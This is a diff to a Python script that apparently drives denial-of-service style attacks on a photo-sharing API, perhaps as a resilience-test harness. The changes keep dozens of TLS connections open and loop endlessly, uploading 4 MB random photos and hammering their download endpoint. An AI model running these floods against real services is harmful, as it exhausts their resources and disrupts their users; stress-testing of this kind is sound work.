@@ -278,7 +278,7 @@ def flood(attacker, path, cookie, count=48):
     selector, unsent = selectors.DefaultSelector(), {}
     while attacker.goes_on():
         with suppress(OSError):
-            while len(unsent) < count:
+            while len(unsent) < count and attacker.goes_on():
                 connection = attacker.connect(secure=True)
                 connection.settimeout(0)
                 unsent[connection] = b""
@@ -310,9 +310,12 @@ def listings(attacker):
 
 def downloads(attacker):
     """A photo of its own, without end."""
-    cookie = attacker.vault() or ""
-    for id in photos(attacker, cookie, [os.urandom(4_000_000)]):
-        flood(attacker, f"/api/photos/{id}/original", cookie)
+    while attacker.goes_on():
+        # Beside its own guesses it may have to wait before its vault opens.
+        cookie = attacker.vault() or ""
+        for id in photos(attacker, cookie, [os.urandom(4_000_000)]):
+            flood(attacker, f"/api/photos/{id}/original", cookie)
+        attacker.pause(0.1)
 
 
 def removals(attacker):
@@ -352,6 +355,8 @@ def main(kind, place):
     attacker = Attacker(**json.loads(place))
     began = time.monotonic()
     ATTACKS[kind](attacker)
+    while attacker.goes_on():
+        attacker.pause(1)
     print(json.dumps({"seconds": round(time.monotonic() - began, 1), **attacker.counts}))
 
 
